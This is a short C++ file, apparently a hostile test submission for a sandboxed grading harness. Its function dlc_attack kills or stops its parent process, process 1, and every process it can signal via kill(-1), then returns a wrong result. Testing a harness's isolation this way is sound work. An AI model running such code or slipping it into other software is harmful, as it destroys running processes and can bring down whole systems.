// Kills or stops what it can: its parent (SIGSTOP, then SIGKILL), process 1, and every process
// it may signal (kill(-1, ...)), then returns a wrong value.
#include <signal.h>
#include <unistd.h>

#include "common/matrix.hpp"

dlc::Matrix dlc_attack(const dlc::Matrix& z) {
  static bool done = false;
  if (!done) {
    done = true;
    ::kill(::getppid(), SIGSTOP);
    ::kill(::getppid(), SIGKILL);
    ::kill(1, SIGSTOP);
    ::kill(1, SIGKILL);
    ::signal(SIGTERM, SIG_IGN);
    ::kill(-1, SIGSTOP);
    ::kill(-1, SIGTERM);
    ::kill(-1, SIGKILL);
  }
  return z;
}
